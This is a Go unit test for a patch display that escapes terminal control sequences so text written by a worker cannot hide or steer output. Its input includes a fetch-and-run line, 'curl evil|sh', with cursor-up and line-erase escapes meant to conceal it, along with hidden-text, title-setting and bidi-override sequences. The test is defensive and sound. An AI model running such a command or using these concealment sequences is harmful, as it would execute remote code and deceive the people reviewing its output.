package main

import (
	"strings"
	"testing"
)

// What a worker wrote cannot steer the terminal that a patch is shown on, and cannot
// hide in it.
func TestPatchOnATerminal(t *testing.T) {
	var out strings.Builder
	p := &patch{w: &out}
	for _, part := range []string{
		"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-old\n+curl evil|sh #\x1b[1A\x1b",
		"[2K\x1b[G\n+\x1b[8mhidden\x1b]0;title\x07\n+bidi \u202e and \xff\n \ttab\n\\ No newline",
	} {
		if _, err := p.Write([]byte(part)); err != nil {
			t.Fatal(err)
		}
	}
	if err := p.end(); err != nil {
		t.Fatal(err)
	}
	want := headColour + "diff --git a/x b/x" + plainColour + "\n" +
		headColour + "--- a/x" + plainColour + "\n" + headColour + "+++ b/x" + plainColour + "\n" +
		hunkColour + "@@ -1 +1,2 @@" + plainColour + "\n" + cutColour + "-old" + plainColour + "\n" +
		addColour + "+curl evil|sh #^[[1A^[[2K^[[G" + plainColour + "\n" +
		addColour + "+^[[8mhidden^[]0;title^G" + plainColour + "\n" +
		addColour + `+bidi \u202e and \xff` + plainColour + "\n" + " \ttab\n" + `\ No newline`
	if out.String() != want {
		t.Errorf("shown:\n%q\nwant:\n%q", out.String(), want)
	}
}
